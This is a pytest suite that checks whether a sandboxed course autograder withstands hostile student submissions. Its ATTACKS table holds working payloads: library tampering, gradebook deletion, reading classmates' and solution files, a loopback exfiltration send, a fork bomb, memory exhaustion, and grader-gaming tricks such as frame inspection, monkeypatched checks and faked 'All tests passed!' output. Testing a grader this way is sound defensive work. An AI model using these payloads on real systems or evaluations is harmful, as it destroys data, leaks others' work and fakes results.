"""A class whose submissions attack the grader, graded with the real tooling and the sandbox on.

Each attacker submits the same notebook as ``bas``: every exercise right but the update rule,
which returns ``w`` unchanged (12 of 15 points), with one attack added, written as a hostile
student would, knowing the course's paths. The class also has honest students (correct,
partial, empty). One ``course autograde`` run with two workers grades them all, then
``course feedback``. The tests check, for every attack:

* it scores no more than ``bas``, cell by cell;
* every honest student gets exactly the score they earn, as without the attack;
* no tracked file of the repository and no file of the course copy changed, and the run's own
  integrity check agrees;
* no feedback holds another student's work or the instructor's solutions;
* nothing reached the test server listening on a loopback port.
"""

from __future__ import annotations

import contextlib
import hashlib
import io
import re
import socket
import subprocess
import threading
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat
import pytest
from nbformat import NotebookNode
from test_grading import html_text  # tests/ is on sys.path under pytest
from test_grading_class import (
    ASSIGNMENT,
    NOTEBOOK,
    RETURN_W,
    UPDATE_ZERO_ONLY_AT_START,
    WRITTEN,
    answer_text,
    cell,
    checks_of,
    points,
    snapshot,
    solved,
)

from grader.cli import main
from grader.sandbox import unavailable_reason

REPO = Path(__file__).resolve().parents[1]
pytestmark = pytest.mark.skipif(bool(unavailable_reason()), reason=unavailable_reason())

# {root}: the course copy; {repo}: this repository; {port}: the test server's loopback port.
ATTACKS = {
    "library": """
import os
import mllib
for path in [os.path.join(os.path.dirname(mllib.__file__), "perceptron.py"),
             os.path.join(os.path.dirname(mllib.__file__), "grading", "__init__.py"),
             "{repo}/mllib/grading/__init__.py"]:
    try:
        with open(path, "a") as source:
            source.write("\\nimport builtins  # appended by a submission\\n")
    except OSError as error:
        print("library:", error)
""",
    "gradebook": """
import os
import sqlite3
candidates, here = ["{root}/grader/gradebook.db"], os.getcwd()
while here != "/":
    candidates.append(os.path.join(here, "grader", "gradebook.db"))
    here = os.path.dirname(here)
for path in candidates:
    try:
        db = sqlite3.connect("file:" + path + "?mode=rw", uri=True)
        db.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
        db.commit()
        db.close()
        os.remove(path)
    except Exception as error:
        print("gradebook:", error)
""",
    "classmate": """
for path in ["{root}/grader/submitted/ada/{assignment}/{notebook}.ipynb",
             "{root}/grader/autograded/ada/{assignment}/{notebook}.ipynb"]:
    try:
        print(open(path).read())
    except OSError as error:
        print("classmate:", error)
""",
    "solutions": """
import glob
import json
found = glob.glob("{root}/solutions/*/*.ipynb") + glob.glob("{repo}/solutions/*/*.ipynb")
for path in found:
    for c in json.load(open(path))["cells"]:
        if c["cell_type"] == "code" and c["metadata"].get("nbgrader", {{}}).get("solution"):
            exec("".join(c["source"]))
        elif c["cell_type"] == "markdown":
            print("".join(c["source"]))
print("solutions: found", len(found))
""",
    "network": """
import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"a stolen answer")
except OSError as error:
    print("network:", error)
""",
    "memory": """
hoard = []
while True:  # until the sandbox's memory limit stops it
    hoard.append(bytearray(2**27))
""",
    "fork": """
import os
import time
kernel = os.getpid()
while True:  # every child forks too, until the process limit stops them
    try:
        os.fork()
    except OSError:
        if os.getpid() != kernel:
            time.sleep(20)
            os._exit(0)
        break
print("fork: the process limit held")
""",
    "frames": """
import inspect


def perceptron_update(w, x, y, eta):
    for outer in inspect.stack()[1:]:  # the expected answer, if a caller holds it
        for name, value in outer.frame.f_locals.items():
            if name in ("expected", "want", "answer", "reference", "result"):
                return value
    return w
""",
    "importlib": """
import importlib
for name in ["mllib." + "gra" + "ding", "mllib." + "gra" + "ding." + "percep" + "tron"]:
    try:
        module = importlib.import_module(name)
    except ImportError as error:
        print("importlib:", error)
        continue
    for attr in ["ju" + "dge", "run_" + "check", "close_" + "failure", "assert_" + "close",
                 "hidden_" + "test", "update_" + "rule"]:
        if hasattr(module, attr):
            setattr(module, attr, lambda *a, **k: None)
""",
    "excepthook": """
get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)
""",
    "numpy": """
import numpy as np
np.max = np.amax = np.min = lambda *a, **k: -1.0
np.all = np.allclose = np.array_equal = lambda *a, **k: True
np.abs = np.absolute = lambda x, *a, **k: x * 0
""",
    "fake_output": """
import json
from IPython.display import display

_real_update = perceptron_update


def perceptron_update(w, x, y, eta):
    fake = {{"values": [[0.5, 0.5, 0, 0.5, 0.5]], "results": []}}
    display({{"application/vnd.mlcourse.answers+json": json.dumps(fake)}}, raw=True)
    print("All tests passed!")
    return _real_update(w, x, y, eta)
""",
}
BASE = "bas"  # the attackers' submission without the attack


@dataclass(frozen=True)
class Honest:
    name: str
    answers: dict[str, str]
    earns: dict[str, str]  # exercise -> "visible" / "none"; unlisted: everything


HONEST = [Honest("ada", {}, {}),
          Honest("pat", {"update_rule": UPDATE_ZERO_ONLY_AT_START}, {"update_rule": "visible"}),
          Honest("bas", {"update_rule": RETURN_W}, {"update_rule": "none"})]
EMPTY = "emm"


def marker(student: str) -> str:
    return f"written-by-{student}-7f3a"


def submission(student: str, answers: dict[str, str]) -> NotebookNode:
    """A notebook whose written answer is the student's marker, so leaks can be found."""
    return solved(**answers, **{WRITTEN: f"My own answer. {marker(student)}"})


OWN_ANSWER = {"frames"}  # attacks that are the answer; the others follow bas's answer


def attacker(name: str, attack: str, fill: Callable[[str], str]) -> NotebookNode:
    code = fill(attack)
    return submission(name, {"update_rule": code if name in OWN_ANSWER else RETURN_W + code})


def tracked_files() -> dict[str, str]:
    """sha256 of every file git tracks in the repository (as in the working tree)."""
    names = subprocess.run(["git", "ls-files", "-z"], cwd=REPO, capture_output=True,
                           check=True).stdout.decode().split("\0")
    return {n: hashlib.sha256((REPO / n).read_bytes()).hexdigest() for n in names
            if n and (REPO / n).is_file()}


def course_files(root: Path) -> dict[str, str]:
    return {str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
            for folder in ("solutions", "notebooks") for p in (root / folder).rglob("*")
            if p.is_file()} | {"config": hashlib.sha256(
                (root / "grader" / "nbgrader_config.py").read_bytes()).hexdigest()}


class Listener:
    """A TCP server on a loopback port that counts the connections it accepts."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.connections = 0
        self.running = True
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    def serve(self) -> None:
        while self.running:
            with contextlib.suppress(TimeoutError):
                conn, _ = self.server.accept()
                self.connections += 1
                conn.close()

    def close(self) -> None:
        self.running = False
        self.thread.join()
        self.server.close()


@dataclass
class HostileRun:
    root: Path
    codes: dict[str, int]
    out: dict[str, str]
    err: dict[str, str]
    scores: dict[str, dict[str, float]]
    repo_before: dict[str, str]
    repo_after: dict[str, str]
    course_before: dict[str, str]
    course_after: dict[str, str]
    connections: int


@pytest.fixture(scope="module")
def hostile(copy_course: Callable[..., Path]) -> HostileRun:
    root = copy_course("solutions", "notebooks")
    with (root / "grader" / "nbgrader_config.py").open("a") as config:
        config.write("\nc.ExecutePreprocessor.timeout = 10\n")
    listener = Listener()
    values = {"root": root, "repo": REPO, "port": listener.port, "assignment": ASSIGNMENT,
              "notebook": NOTEBOOK}
    notebooks = {h.name: submission(h.name, h.answers) for h in HONEST}
    notebooks[EMPTY] = nbformat.read(REPO / "notebooks" / ASSIGNMENT / f"{NOTEBOOK}.ipynb",
                                     as_version=4)
    cell(notebooks[EMPTY], WRITTEN).source = marker(EMPTY)
    notebooks |= {name: attacker(name, code, lambda text: text.format(**values))
                  for name, code in ATTACKS.items()}
    for name, nb in notebooks.items():
        folder = root / "grader" / "submitted" / name / ASSIGNMENT
        folder.mkdir(parents=True)
        nbformat.write(nb, folder / f"{NOTEBOOK}.ipynb")
    repo_before, course_before = tracked_files(), course_files(root)
    run = HostileRun(root, {}, {}, {}, {}, repo_before, {}, course_before, {}, 0)
    try:
        for step, args in [("autograde", ["autograde", ASSIGNMENT, "--jobs", "2"]),
                           ("feedback", ["feedback", ASSIGNMENT]),
                           ("report", ["report", ASSIGNMENT])]:
            out, err = io.StringIO(), io.StringIO()
            with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
                run.codes[step] = main(["--course-root", str(root), *args])
            run.out[step], run.err[step] = out.getvalue(), err.getvalue()
    finally:
        listener.close()
    run.scores = snapshot(root)
    run.repo_after, run.course_after = tracked_files(), course_files(root)
    run.connections = listener.connections
    return run


def earned(honest: Honest) -> dict[str, float]:
    scores = {WRITTEN: 0.0}
    for exercise in ("update_rule", "training_loop", "margin", "bound", "winnow"):
        for kind, test in checks_of(exercise).items():
            scores[test] = points(test) if honest.earns.get(exercise, "all") in ("all", kind) \
                else 0.0
    return scores


def test_the_run_completes_in_the_sandbox_with_the_course_intact(hostile: HostileRun) -> None:
    assert "INTEGRITY FAILURE" not in hostile.err["autograde"], hostile.err["autograde"]
    assert re.search(r"integrity: \d+ files of the course and the library are unchanged",
                     hostile.out["autograde"])
    assert hostile.codes["feedback"] == 0, hostile.err["feedback"]
    report = (hostile.root / "grader" / "exports" / f"report-{ASSIGNMENT}.html").read_text()
    assert "Submissions ran in the sandbox in a local process pool." in html_text(report)
    assert sorted(hostile.scores) == sorted([*(h.name for h in HONEST), EMPTY, *ATTACKS])


def test_no_tracked_file_changed(hostile: HostileRun) -> None:
    assert hostile.repo_after == hostile.repo_before
    assert hostile.course_after == hostile.course_before


@pytest.mark.parametrize("honest", HONEST, ids=lambda h: h.name)
def test_honest_students_get_exactly_what_they_earn(hostile: HostileRun, honest: Honest) -> None:
    assert hostile.scores[honest.name] == earned(honest)


def test_the_empty_submission_gets_zero(hostile: HostileRun) -> None:
    assert set(hostile.scores[EMPTY].values()) == {0.0}


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_gains_nothing(hostile: HostileRun, attack: str) -> None:
    base = hostile.scores[BASE]
    got = hostile.scores[attack]
    assert set(got) == set(base)
    assert all(got[test] <= base[test] for test in base), {
        test: (got[test], base[test]) for test in base if got[test] > base[test]}


def test_nothing_reached_the_loopback_server(hostile: HostileRun) -> None:
    assert hostile.connections == 0


def test_no_feedback_holds_another_students_work_or_the_solutions(hostile: HostileRun) -> None:
    solution_text = [line.strip() for line in answer_text(WRITTEN).splitlines()[:3]]
    for folder in (hostile.root / "grader" / "feedback").iterdir():
        text = html_text((folder / ASSIGNMENT / f"{NOTEBOOK}.html").read_text())
        others = [name for name in hostile.scores if name != folder.name
                  and marker(name) in text]
        assert not others, (folder.name, others)
        assert not any(line and line in text for line in solution_text), folder.name
